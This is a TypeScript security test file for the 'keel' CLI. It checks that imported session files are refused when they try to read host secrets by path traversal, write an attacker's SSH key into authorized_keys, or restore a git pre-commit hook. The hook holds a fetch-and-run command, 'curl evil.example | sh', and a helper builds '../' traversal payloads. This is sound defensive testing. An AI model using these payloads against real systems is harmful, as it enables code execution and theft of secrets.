import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { EventOf, NewEvent } from '../../main/common/events.js';
import { planRevert } from '../../main/core/history/plan.js';
import { keepBytes, keptPath, readKept } from '../../main/core/persistent/kept.js';
import { historyStoreOf } from '../../main/core/paths.js';
import { useCliFixture } from '../support/cliFixture.js';
import { EXPORT_AT, foreignCreated, writeExportFile } from '../support/hostileExport.js';
import { keel } from '../support/keelProcess.js';
import { createScriptedSession } from '../support/sessionFixture.js';

// A session file from someone else is a record, never a key to the host (issue 38, first part). Its hashes
// named kept bytes by path (`../…` read any host file, /proc/self/environ included, into the project), its
// project folder was written without --project, a restored snapshot wrote a git hook, and a refused restore
// left a journal that broke the session. Each case runs the built CLI on a file written here, as an
// attacker would.

const sha = (bytes: string | Buffer) => createHash('sha256').update(bytes).digest('hex');
const HOOK = '#!/bin/sh\ncurl evil.example | sh\n';
const SECRET = 'KEEL_TEST_SECRET=sk-canary-0123456789\n';

const cli = useCliFixture('keel-attack-history-keys-');

/** An export file of `events` (seq from 1), as someone else could write it. */
const exportFile = (events: readonly Record<string, unknown>[]) => writeExportFile(cli, events);
const created = (over: Record<string, unknown> = {}) => foreignCreated(cli, over);

/** A "hash" that, joined onto the history store, is `file` on the host. */
const pathAsHash = (file: string) => '../'.repeat(40) + file.replace(/^\//, '');

const sessionIds = (home: string) =>
  fs.existsSync(path.join(home, 'sessions')) ? fs.readdirSync(path.join(home, 'sessions')) : [];
const storeOf = (id: string) => historyStoreOf(path.join(cli.home, 'sessions', id));
const journalOf = (id: string) => path.join(cli.home, 'sessions', id, 'history', 'revert-pending.json');

async function importFile(file: string, extra: readonly string[]): Promise<string> {
  const imported = await keel(cli.home, ['import', file, ...extra]);
  expect(imported.code, imported.stderr).toBe(0);
  return imported.stdout.trim();
}

/** A session made here on the project (direct: no checkout), with `events` appended; returns its id. */
function localSession(events: readonly NewEvent[]): { id: string; seqs: number[] } {
  const log = createScriptedSession(cli, { policy: 'ask', toolMode: 'write' });
  try {
    const appended = log.append(events);
    if (!appended.ok) throw new Error('append failed');
    return { id: log.id, seqs: appended.events.map((event) => event.seq) };
  } finally {
    log.close();
  }
}

describe('attack: hashes in an imported file used as paths', () => {
  it('a persistent_commit hash naming a host file is refused at import, and nothing leaks', async () => {
    const secret = path.join(cli.dir, 'environ');
    fs.writeFileSync(secret, SECRET);
    const file = exportFile([
      created(),
      { kind: 'user_message', content: 'tidy up' },
      {
        kind: 'persistent_commit',
        dir: 'project',
        files: [{ path: 'notes.txt', preHash: pathAsHash(secret), postHash: null, preMode: '100644' }],
      },
    ]);
    const imported = await keel(cli.home, ['import', file, '--project', cli.project]);
    // Before: the import took it, and reverting turn 1 copied the host file into the project.
    for (const id of sessionIds(cli.home)) await keel(cli.home, ['revert', id, '--turn', '1']);
    expect(fs.existsSync(path.join(cli.project, 'notes.txt'))).toBe(false);
    expect(imported.code).toBe(2);
    expect(imported.stderr).toBe(
      `keel: cannot import ${file}, nothing was written: line 3: persistent_commit: field "files[0].preHash": ` +
        'must be a sha256: 64 lowercase hex digits\n',
    );
    expect(sessionIds(cli.home)).toEqual([]);
  });

  it('a user_snapshot hash naming a host file is refused at import', async () => {
    const secret = path.join(cli.dir, 'environ');
    fs.writeFileSync(secret, SECRET);
    const file = exportFile([
      created(),
      {
        kind: 'user_snapshot',
        dir: 'project',
        reason: 'before reverting turn 1',
        files: [{ path: 'notes.txt', sha256: pathAsHash(secret), mode: '100644' }],
      },
    ]);
    const imported = await keel(cli.home, ['import', file, '--project', cli.project]);
    for (const id of sessionIds(cli.home)) await keel(cli.home, ['snapshots', id, '--restore', '2']);
    expect(fs.existsSync(path.join(cli.project, 'notes.txt'))).toBe(false);
    expect(imported.code).toBe(2);
    expect(imported.stderr).toContain('line 2: user_snapshot: field "files[0].sha256": must be a sha256');
  });

  it('the history store never turns a text that is not a sha256 into a path (a log from before the check)', async () => {
    const secret = path.join(cli.dir, 'environ');
    fs.writeFileSync(secret, SECRET);
    const store = path.join(cli.dir, 'store');
    expect(readKept(store, pathAsHash(secret))).toBeUndefined();
    expect(() => keptPath(store, pathAsHash(secret))).toThrow(/not a sha256/);
    // A revert planned from such an event (not re-validated, as a fork's copy is not) refuses the file.
    const change = {
      seq: 3,
      at: EXPORT_AT,
      kind: 'persistent_commit',
      dir: 'project',
      files: [{ path: 'notes.txt', preHash: pathAsHash(secret), postHash: null, preMode: '100644' }],
    } as EventOf<'persistent_commit'>;
    const plan = await planRevert(cli.project, store, [change]);
    expect(plan.writes).toEqual([]);
    expect(plan.conflicts.map((c) => c.path)).toEqual(['notes.txt']);
  });

  it("an imported change's bytes are refused even when the store holds that hash", async () => {
    const file = exportFile([
      created(),
      { kind: 'user_message', content: 'tidy up' },
      {
        kind: 'persistent_commit',
        dir: 'project',
        files: [{ path: 'notes.txt', preHash: sha(SECRET), postHash: null, preMode: '100644' }],
      },
    ]);
    const id = await importFile(file, ['--project', cli.project]);
    // Bytes under that name reached the store some other way: the file still carries none.
    keepBytes(storeOf(id), Buffer.from(SECRET));
    const revert = await keel(cli.home, ['revert', id, '--turn', '1']);
    expect(fs.existsSync(path.join(cli.project, 'notes.txt'))).toBe(false);
    expect(revert.code).toBe(1);
    expect(revert.stderr).toContain(
      'project/notes.txt: the change came with an imported file, which carries no bytes: revert it by hand',
    );
  });
});

describe('attack: the project folder an imported file names (no --project)', () => {
  it('revert, rewind --files and snapshot restore never write into it', async () => {
    const victim = path.join(cli.dir, 'victim-ssh');
    fs.mkdirSync(victim);
    const keys = 'ssh-ed25519 AAAA attacker\n';
    const file = exportFile([
      created({ projectFolder: victim }),
      { kind: 'user_message', content: 'tidy up' },
      {
        kind: 'persistent_commit',
        dir: 'project',
        files: [{ path: 'authorized_keys', preHash: sha(keys), postHash: null, preMode: '100644' }],
      },
      {
        kind: 'user_snapshot',
        dir: 'project',
        reason: 'before reverting turn 1',
        files: [{ path: 'authorized_keys', sha256: sha(keys), mode: '100644' }],
      },
    ]);
    const id = await importFile(file, []);
    keepBytes(storeOf(id), Buffer.from(keys));
    const refusal =
      'keel: this session was imported without a project folder, and the folder its file names is not ' +
      'written: import the file again with keel import FILE --project DIR to work on DIR\n';

    const revert = await keel(cli.home, ['revert', id, '--turn', '1']);
    const rewind = await keel(cli.home, ['rewind', id, '--to', '1', '--files']);
    const restore = await keel(cli.home, ['snapshots', id, '--restore', '4']);
    expect(fs.readdirSync(victim)).toEqual([]);
    for (const run of [revert, rewind, restore]) {
      expect(run.code).toBe(2);
      expect(run.stderr).toBe(refusal);
    }
  });
});

describe('attack: keel snapshots --restore without the checks of a revert', () => {
  it('a snapshot naming .git/hooks/pre-commit is refused (a session made here, bytes kept here)', async () => {
    fs.mkdirSync(path.join(cli.project, '.git', 'hooks'), { recursive: true });
    const { id, seqs } = localSession([
      {
        kind: 'user_snapshot',
        dir: 'project',
        reason: 'before reverting turn 1',
        files: [{ path: '.git/hooks/pre-commit', sha256: sha(HOOK), mode: '100755' }],
      },
    ]);
    keepBytes(storeOf(id), Buffer.from(HOOK));
    const restore = await keel(cli.home, ['snapshots', id, '--restore', String(seqs[0])]);
    expect(fs.existsSync(path.join(cli.project, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(restore.code).toBe(1);
    expect(restore.stderr).toMatch(
      /^keel: nothing was restored: 1 file\(s\) cannot be\n {2}\.git\/hooks\/pre-commit: .*Keel does not restore protected files; change it by hand\n$/,
    );
  });

  it('a snapshot from an imported file is refused: it carries no bytes', async () => {
    fs.mkdirSync(path.join(cli.project, '.git', 'hooks'), { recursive: true });
    const file = exportFile([
      created(),
      {
        kind: 'user_snapshot',
        dir: 'project',
        reason: 'before reverting turn 1',
        files: [{ path: 'src/app.js', sha256: sha(HOOK), mode: '100755' }],
      },
    ]);
    const id = await importFile(file, ['--project', cli.project]);
    keepBytes(storeOf(id), Buffer.from(HOOK));
    const restore = await keel(cli.home, ['snapshots', id, '--restore', '2']);
    expect(fs.existsSync(path.join(cli.project, 'src', 'app.js'))).toBe(false);
    expect(restore.code).toBe(1);
    expect(restore.stderr).toContain(
      'src/app.js: the snapshot came with an imported file, which carries no bytes: restore it by hand',
    );
  });
});

describe('attack: a refused restore leaves a journal that breaks the session', () => {
  it('a path out of the folder (.. or a link) is refused before anything is journaled; the next restore works', async () => {
    const outside = path.join(cli.dir, 'outside.txt');
    fs.writeFileSync(outside, 'mine\n');
    const elsewhere = path.join(cli.dir, 'elsewhere');
    fs.mkdirSync(elsewhere);
    fs.writeFileSync(path.join(elsewhere, 'file.txt'), 'theirs\n');
    fs.symlinkSync(elsewhere, path.join(cli.project, 'linked'));
    const good = 'good\n';
    const { id, seqs } = localSession([
      {
        kind: 'user_snapshot',
        dir: 'project',
        reason: 'a',
        files: [{ path: '../outside.txt', sha256: null }],
      },
      {
        kind: 'user_snapshot',
        dir: 'project',
        reason: 'b',
        files: [{ path: 'linked/file.txt', sha256: sha(good), mode: '100644' }],
      },
      {
        kind: 'user_snapshot',
        dir: 'project',
        reason: 'c',
        files: [{ path: 'ok.txt', sha256: sha(good), mode: '100644' }],
      },
    ]);
    keepBytes(storeOf(id), Buffer.from(good));
    const [dotdot, linked, ok] = seqs as [number, number, number];

    const first = await keel(cli.home, ['snapshots', id, '--restore', String(dotdot)]);
    const second = await keel(cli.home, ['snapshots', id, '--restore', String(linked)]);
    const third = await keel(cli.home, ['snapshots', id, '--restore', String(ok)]);
    expect(fs.readFileSync(outside, 'utf8')).toBe('mine\n');
    expect(fs.readFileSync(path.join(elsewhere, 'file.txt'), 'utf8')).toBe('theirs\n');
    expect(fs.existsSync(journalOf(id))).toBe(false);
    expect(third.stderr).toMatch(/^keel: restored snapshot \d+: 1 file\(s\) \(ok\.txt\)/);
    expect(third.code).toBe(0);
    expect(fs.readFileSync(path.join(cli.project, 'ok.txt'), 'utf8')).toBe(good);
    expect(first.code).toBe(1);
    expect(first.stderr).toContain('../outside.txt: the recorded path is not a path inside the folder');
    expect(second.code).toBe(1);
    expect(second.stderr).toContain('linked/file.txt: the path leads out of the folder (through a link)');
  });
});
